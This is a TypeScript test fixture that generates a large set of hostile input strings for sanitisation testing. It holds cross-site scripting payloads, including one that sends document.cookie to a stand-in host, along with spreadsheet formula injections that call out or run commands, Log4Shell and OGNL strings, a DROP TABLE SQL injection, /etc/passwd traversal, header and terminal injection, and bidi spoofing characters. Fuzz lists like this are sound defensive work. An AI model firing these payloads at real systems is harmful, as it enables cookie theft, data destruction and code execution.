/** Texts an attacker may put into a name, an address or an error of the other side. At least 200, all different. */
export const hostileTexts: readonly string[] = [
  ...new Set([...markup(), ...formulas(), ...lines(), ...invisible(), ...odd()]),
];

function markup(): readonly string[] {
  const codes = ['alert(1)', 'alert`1`', 'fetch("//evil.test/"+document.cookie)', 'document.title=1'];
  const shapes = [
    '<script>%</script>',
    '"><script>%</script>',
    "'><script>%</script>",
    '</script><script>%</script>',
    '</title><script>%</script>',
    '</textarea><script>%</script>',
    '<img src=x onerror=%>',
    '<svg onload=%>',
    '<svg><script>%</script></svg>',
    '<body onload=%>',
    '<iframe srcdoc="<script>%</script>">',
    '<iframe src="javascript:%">',
    '<a href="javascript:%">x</a>',
    '<a href=" &#1;javascript:%">x</a>',
    '<details open ontoggle=%>',
    '<input autofocus onfocus=%>',
    '<math><mtext><table><mglyph><style><img src onerror=%>',
    '<template><img src onerror=%></template>',
    '<x onclick=% contenteditable>x</x>',
    '<style>@import "//evil.test/%"</style>',
    '<base href="//evil.test/%">',
    '<meta http-equiv=refresh content="0;url=javascript:%">',
    '<object data="javascript:%">',
    'javascript:%',
    'data:text/html,<script>%</script>',
    '{{constructor.constructor("%")()}}',
    '${%}',
    '#{%}',
    '<!--#exec cmd="%"-->',
    '<?php % ?>',
    ']]><script>%</script>',
    '\\u003cscript\\u003e%\\u003c/script\\u003e',
  ];
  return codes.flatMap((code) => shapes.map((shape) => shape.replace('%', code)));
}

function formulas(): readonly string[] {
  const bodies = [
    '1+1',
    'cmd|"/c calc"!A1',
    'HYPERLINK("http://evil.test?x="&A1,"x")',
    'IMPORTXML("http://evil.test","//a")',
  ];
  const signs = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '"=', "'=", '\uFF1D', '\uFEFF=', '\u200B+'];
  return bodies.flatMap((body) => signs.map((sign) => `${sign}${body}`));
}

function lines(): readonly string[] {
  return [
    'a\r\nset-cookie: x=1',
    'a\n\ndata: {"whole":true}\n\n',
    'a\revent: x\rdata: {}',
    'a\u2028b\u2029c',
    'a\u0085b',
    'a\r\n\r\n<script>alert(1)</script>',
    'a\r\nHTTP/1.1 200 OK\r\n\r\n',
    '{"level":"error"}\n{"level":"info"}',
    '\u001B[2J\u001B[31mred',
    '\u001B]0;title\u0007',
    '\u009B31m',
    'a\0b',
    'a\bb\u007F',
  ];
}

function invisible(): readonly string[] {
  return [
    '\u202Egnp.exe',
    '\u2066a\u2069\u202A\u202C',
    '\u200Bzero\u200Dwidth\u2060',
    '\uFEFFmark',
    '\u00ADsoft',
    '\u{E0041}\u{E0042} tags',
    '\uD800 alone',
    '\uDC00 alone',
    '\uFFFF\uFFFE',
    '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}',
    'Z\u0351\u0368\u0346a\u0321\u034El\u0328g\u0322o',
    '\u05E9\u05DC\u05D5\u05DD (a) b',
  ];
}

function odd(): readonly string[] {
  return [
    '',
    ' ',
    '__proto__',
    'constructor',
    'toString',
    'null',
    'undefined',
    '${jndi:ldap://evil.test/a}',
    '%{(#a=@java.lang.Runtime@getRuntime())}',
    "'; DROP TABLE connectors; --",
    '../../../../etc/passwd',
    '%2e%2e%2f',
    '%0d%0aset-cookie:%20x=1',
    '%s%n%x',
    '1e999',
    '"',
    "'",
    '`',
    '\\',
    '\\"',
    ',',
    ';',
    '|',
    'a'.repeat(5000),
    '"'.repeat(200),
    '[['.repeat(100),
  ];
}
